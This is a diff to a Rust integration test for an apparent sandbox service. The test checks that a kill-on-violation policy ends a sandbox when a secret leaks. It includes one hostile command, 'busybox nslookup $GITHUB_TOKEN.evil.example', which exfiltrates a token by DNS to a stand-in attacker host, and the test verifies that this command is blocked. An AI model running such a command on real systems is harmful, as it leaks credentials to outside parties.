@@ -723,7 +723,35 @@ async fn secrets_reach_only_their_hosts_and_never_the_sandbox() {
         assert!(!answers.contains(v), "{v} in an answer");
         assert!(!daemon_log.contains(v), "{v} in the daemon's log");
     }
-    c.delete_sandbox(&id).await.unwrap();
+    // block_and_kill: the next violation ends the sandbox, and its record says why.
+    let mut p = policy.clone();
+    p.on_secret_violation = SecretViolation::BlockAndKill;
+    c.set_network(&id, &p).await.unwrap();
+    // In the background: the sandbox ends under the command.
+    c.start_process_background(
+        &id,
+        &moat_api::StartProcessRequest {
+            command: Some("busybox nslookup $GITHUB_TOKEN.evil.example".into()),
+            ..Default::default()
+        },
+    )
+    .await
+    .unwrap();
+    let mut ended = None;
+    for _ in 0..200 {
+        let s = c.get_sandbox(&id).await.unwrap();
+        if s.state == moat_api::SandboxState::Ended {
+            ended = s.ended;
+            break;
+        }
+        tokio::time::sleep(Duration::from_millis(100)).await;
+    }
+    let ended = ended.expect("the violation did not end the sandbox");
+    assert_eq!(ended.reason, moat_api::Reason::KilledByPolicy);
+    assert!(
+        ended.message.contains("GITHUB_TOKEN") && !ended.message.contains(ROTATED),
+        "{ended:?}"
+    );
 
     // With the internet allowed (the daemon's default policy) it works the same.
     let open = c
